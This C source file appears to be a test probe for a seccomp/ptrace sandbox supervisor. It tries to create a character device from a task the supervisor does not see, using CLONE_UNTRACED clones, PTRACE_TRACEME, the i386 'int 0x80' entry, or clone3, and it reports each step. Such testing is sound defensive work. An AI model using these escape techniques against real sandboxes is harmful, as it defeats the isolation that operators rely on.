/* SPDX-License-Identifier: MIT */
/*
 * escape MODE PATH: try to make the character device PATH (c 1:3) from a task the
 * supervisor does not see, as a target under the trace mechanism would: make a
 * child the kernel does not auto-attach, become its tracer, and let its mknod run
 * from the seccomp stop.  MODE says how:
 *   attach   clone(CLONE_UNTRACED), the parent PTRACE_SEIZEs the child
 *   traceme  clone(CLONE_UNTRACED), the child PTRACE_TRACEMEs
 *   i386     the same clone through the i386 entry (int 0x80), then seize
 *   clone3   clone3 with CLONE_UNTRACED, then seize
 * When the untraced clone is refused the attack goes on with an ordinary fork.
 * Prints "clone=...", "ptrace=..." (or "traceme=..."), "mknod=..." and exits 0
 * when it ran to the end.
 */
#include <linux/sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdlib.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>

#include "attack.h"

#define I386_NR_CLONE 120

enum mode { ATTACH, TRACEME, I386, CLONE3 };

struct result {
	long r;
	int err;
};

/* clone through the i386 entry of this 64-bit process: a fork when no stack is given. */
static long clone_i386(unsigned long flags)
{
#if defined(__x86_64__)
	long ret;

	__asm__ volatile("int $0x80"
			 : "=a"(ret)
			 : "0"((long)I386_NR_CLONE), "b"(flags), "c"(0L), "d"(0L), "S"(0L), "D"(0L)
			 : "memory", "cc", "r8", "r9", "r10", "r11");
	if (ret < 0 && ret > -4096) {
		errno = (int)-ret;
		return -1;
	}
	return ret;
#else
	(void)flags;
	errno = ENOSYS;
	return -1;
#endif
}

/* The untraced child: 0 in it, its pid in the parent; an ordinary fork when refused. */
static pid_t make_child(enum mode m)
{
	struct clone_args ca = { .flags = CLONE_UNTRACED, .exit_signal = SIGCHLD };
	long r;

	if (m == CLONE3)
		r = syscall(SYS_clone3, &ca, sizeof(ca));
	else if (m == I386)
		r = clone_i386(CLONE_UNTRACED | SIGCHLD);
	else
		r = syscall(SYS_clone, CLONE_UNTRACED | SIGCHLD, 0, 0, 0, 0);
	if (r == 0)
		return 0;
	attack_report("clone", r, errno);
	return r > 0 ? (pid_t)r : fork();
}

/* In the child: raw calls only where glibc would use the parent's cached thread id. */
static void child_main(enum mode m, int go, int res, const char *path)
{
	struct result out;
	char c;

	if (m == TRACEME) {
		out.r = ptrace(PTRACE_TRACEME, 0, NULL, NULL);
		out.err = errno;
		(void)!write(res, &out, sizeof(out));
		if (out.r == 0)
			syscall(SYS_kill, syscall(SYS_getpid), SIGSTOP);
	}
	if (attack_read(go, &c, 1) < 0)
		syscall(SYS_exit_group, 3);
	out.r = mknod(path, S_IFCHR | 0600, makedev(1, 3));
	out.err = errno;
	(void)!write(res, &out, sizeof(out));
	syscall(SYS_exit_group, 0);
}

/* Trace the child until it exits, letting every seccomp stop run its call. */
static void tracer_loop(pid_t child)
{
	int st;

	while (waitpid(child, &st, __WALL) == child && WIFSTOPPED(st)) {
		int event = (unsigned)st >> 16, sig = WSTOPSIG(st);

		if (event != 0 || sig == SIGTRAP || sig == SIGSTOP)
			sig = 0; /* an event stop: nothing to deliver */
		ptrace(PTRACE_CONT, child, NULL, (void *)(long)sig);
	}
}

/* Become the child's tracer: seize it, or take its PTRACE_TRACEME; whether we are. */
static bool take_child(enum mode m, pid_t child, int res)
{
	long opts = PTRACE_O_TRACESECCOMP | PTRACE_O_EXITKILL;
	struct result t;
	int st;

	if (m != TRACEME) {
		long r = ptrace(PTRACE_SEIZE, child, NULL, (void *)opts);

		attack_report("ptrace", r, errno);
		return r == 0;
	}
	if (attack_read(res, &t, sizeof(t)) < 0)
		exit(3);
	attack_report("traceme", t.r, t.err);
	if (t.r != 0)
		return false;
	if (waitpid(child, &st, __WALL) != child || !WIFSTOPPED(st) ||
	    ptrace(PTRACE_SETOPTIONS, child, NULL, (void *)opts) < 0 ||
	    ptrace(PTRACE_CONT, child, NULL, NULL) < 0)
		exit(4);
	return true;
}

static int parse_mode(const char *s, enum mode *ret)
{
	static const char *const names[] = { "attach", "traceme", "i386", "clone3" };

	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++)
		if (strcmp(s, names[i]) == 0) {
			*ret = (enum mode)i;
			return 0;
		}
	return -1;
}

int main(int argc, char **argv)
{
	int go[2], res[2];
	struct result out;
	enum mode m;
	pid_t child;
	bool tracing;

	if (argc != 3 || parse_mode(argv[1], &m) < 0) {
		fprintf(stderr, "usage: escape attach|traceme|i386|clone3 PATH\n");
		return 2;
	}
	if (pipe(go) < 0 || pipe(res) < 0)
		return 3;
	fflush(stdout);
	child = make_child(m);
	if (child < 0)
		return 3;
	if (child == 0)
		child_main(m, go[0], res[1], argv[2]);
	tracing = take_child(m, child, res[0]);
	if (write(go[1], "g", 1) != 1)
		return 3;
	if (tracing)
		tracer_loop(child);
	else
		waitpid(child, NULL, 0);
	if (attack_read(res[0], &out, sizeof(out)) < 0)
		return 3;
	attack_report("mknod", out.r, out.err);
	return 0;
}
